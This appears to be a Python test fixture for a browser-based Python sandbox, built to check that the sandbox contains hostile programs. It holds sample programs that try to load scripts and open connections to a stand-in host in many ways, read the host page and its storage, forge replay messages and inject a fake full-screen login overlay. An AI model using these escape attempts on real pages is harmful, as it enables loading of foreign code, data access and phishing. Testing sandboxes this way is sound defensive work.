"""Programs that were made to harm a reader who runs them, and the server that they try to reach."""

import contextlib
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

FOREIGN = "elsewhere.localhost"
"""The host that a program must not reach."""

NETWORK = f"""
import js
import motion.browser.inside as inside
from pyodide.http import open_url

WHERE = "http://{FOREIGN}/"
NESTED = '''
for (const [name, attack] of Object.entries({{
  fetch: (url) => fetch(url, {{ mode: "no-cors" }}),
  script: (url) => importScripts(url),
  module: (url) => import(url),
}}))
  try {{
    Promise.resolve(attack("http://{FOREIGN}/nested-" + name)).catch(() => {{}});
  }} catch {{}}
'''


def xhr(url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.send()


def font(url):
    face = js.FontFace.new("f", f"url({{url}})")
    js.fonts.add(face)
    face.load()


def blob(text):
    return js.URL.createObjectURL(js.Blob.new([text], type="text/javascript"))


def ask(ways):
    for name, way in ways.items():
        try:
            way(WHERE + name)
        except BaseException as error:
            print(name, type(error).__name__)


SCRIPTS = {{
    "module": lambda url: js.Worker.new(blob(f"import {{url!r}}"), type="module"),
    "worker": lambda url: js.Worker.new(url),
    "eval": lambda url: js.eval(f"import({{url!r}})"),
    "nested": lambda url: js.Worker.new(blob(NESTED)),
    "script": lambda url: js.importScripts(url),
}}
ask({{
    "xhr": xhr,
    "open_url": open_url,
    "fetch": lambda url: js.fetch(url),
    "websocket": lambda url: js.WebSocket.new(url.replace("http", "ws", 1)),
    "events": lambda url: js.EventSource.new(url),
    "font": font,
}})
inside._Program.finish = lambda *_: None  # goes on for as long as the page lets it
print("done")
ask({{"FIRST": SCRIPTS["FIRST"]}} | SCRIPTS)
print("all asked")
"""
"""Asks FOREIGN for a path in each way that there is, then goes on until it is stopped.

It asks for scripts last, and in the way FIRST before all others: Firefox sometimes never returns from such a
call when the address is forbidden.
"""

SCRIPTS = re.findall(r'^    "(\w+)":', NETWORK.partition("SCRIPTS = {")[2].partition("\n}")[0], re.MULTILINE)
"""The ways to ask for a script, of which each can be FIRST."""

ORIGIN = """
import js
import motion.browser.inside as inside


def read(url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.send()
    if "Async Python in Motion" in request.responseText:
        print("page read")


def keep(folder):
    return folder.getFileHandle("kept", create=True)


ATTACKS = {
    "page": lambda: read("PAGE"),
    "database": lambda: js.indexedDB.open("kept"),
    "cache": lambda: js.caches.open("kept"),
    "file": lambda: js.navigator.storage.getDirectory().then(keep),
    "channel": lambda: js.BroadcastChannel.new("book").postMessage("heard"),
    "page's channel": lambda: js.postMessage("heard"),
}
for name, attack in ATTACKS.items():
    try:
        attack()
    except BaseException as error:
        print(name, type(error).__name__)
inside._Program.finish = lambda *_: None
print("done")
"""
"""Reads PAGE of the book's host, leaves something in each store, then goes on until it is stopped."""

FORGED = """
import json
import motion_host

motion_host.drawn(json.dumps({"replay": REPLAY, "printers": {}}))
"""
"""Says REPLAY instead of what happened."""

MARKUP = (
    '<section class="motion-replay" data-replay="{}"><svg><title>t</title></svg>'
    '<div id="bad" style="position: fixed; inset: 0">Log in</div></section>'
)

REFUSED = "Python failed: it sent a message that no program of this book sends."

PATIENCE = 2
"""Seconds in which a browser sends what a program has asked for."""


class Elsewhere(ThreadingHTTPServer):
    """A server of somebody else's.

    Attributes:
        asked: The paths that somebody has asked for.
        pages: What it answers, by path; anything else it answers with a script that does nothing.
    """

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answer)
        self.asked: list[str] = []
        self.pages: dict[str, str] = {}


class _Answer(BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        path = self.path.strip("/")
        self.server.asked.append(path)
        page = self.server.pages.get(path)
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if page is None else "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write((page or "0;").encode())

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextlib.contextmanager
def elsewhere_served() -> Iterator[Elsewhere]:
    """Serve what is somebody else's."""
    with Elsewhere() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()
